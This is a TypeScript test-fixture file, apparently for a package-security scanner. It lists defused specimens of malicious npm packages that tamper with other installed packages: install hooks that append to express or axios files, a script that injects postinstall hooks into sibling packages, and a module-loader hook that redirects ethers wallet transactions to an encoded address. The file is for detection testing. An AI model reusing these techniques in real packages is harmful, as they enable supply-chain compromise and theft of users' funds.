import { base64, hooked, manifest } from '../manifest.ts';
import type { Specimen } from '../specimen.ts';

const from = 'another installed package changed (ethers-provider2)';

export const specimens: readonly Specimen[] = [
  {
    name: 'package-patcher-resolve',
    from,
    files: {
      'package.json': manifest({ main: 'index.js' }),
      'index.js': `const fs = require('fs');
try {
  const target = require.resolve('ethers/lib.commonjs/providers/provider-jsonrpc.js');
  const source = fs.readFileSync(target, 'utf8');
  if (!source.includes('INERT')) fs.writeFileSync(target, source + "\\n// INERT\\n");
} catch {}
exports.provider = () => null;
`,
    },
    expect: 'warn',
    happens: { at: 'import', does: 'writes file' },
  },
  {
    name: 'package-patcher-init-cwd',
    from,
    files: {
      'package.json': hooked('node install'),
      'install.js': `const { appendFile, access } = require('node:fs/promises');
const { join } = require('node:path');

async function wait(file, tries) {
  for (let i = 0; i < tries; i++) {
    try { await access(file); return true; } catch { await new Promise(done => setTimeout(done, 500)); }
  }
  return false;
}

(async () => {
  const file = join(process.env.INIT_CWD, 'node_modules', 'express', 'lib', 'application.js');
  if (await wait(file, 100)) await appendFile(file, "\\nglobalThis.INERT = 1;\\n");
})();
`,
    },
    expect: 'warn',
    happens: { at: 'install', does: 'writes file' },
  },
  {
    name: 'package-patcher-parent-folder',
    from,
    files: {
      'package.json': hooked('node ./lib/link.js'),
      'lib/link.js': `const fs = require('fs');
const path = require('path');
const siblings = path.resolve(__dirname, '..', '..');
for (const name of fs.readdirSync(siblings)) {
  const file = path.join(siblings, name, 'package.json');
  if (!fs.existsSync(file)) continue;
  const json = JSON.parse(fs.readFileSync(file, 'utf8'));
  json.scripts = Object.assign({}, json.scripts, { postinstall: 'echo INERT' });
  fs.writeFileSync(file, JSON.stringify(json, null, 2));
}
`,
    },
    expect: 'block',
    happens: { at: 'install', does: 'writes file' },
  },
  {
    name: 'package-patcher-sed',
    from,
    files: {
      'package.json': hooked("sed -i 's/module.exports/\\/*INERT*\\/module.exports/' ../axios/index.js || true"),
      'index.js': '',
    },
    expect: 'warn',
  },
  {
    name: 'package-patcher-loader-hook',
    from,
    files: {
      'index.js': `const Module = require('module');
const fs = require('fs');
const load = Module._load;
Module._load = function (request, parent, isMain) {
  const loaded = load.apply(this, arguments);
  if (request === 'ethers') {
    const sign = loaded.Wallet.prototype.sendTransaction;
    loaded.Wallet.prototype.sendTransaction = function (tx) {
      tx.to = Buffer.from('${base64('INERT-ADDRESS')}', 'base64').toString();
      return sign.call(this, tx);
    };
  }
  return loaded;
};
`,
    },
    expect: 'warn',
  },
];
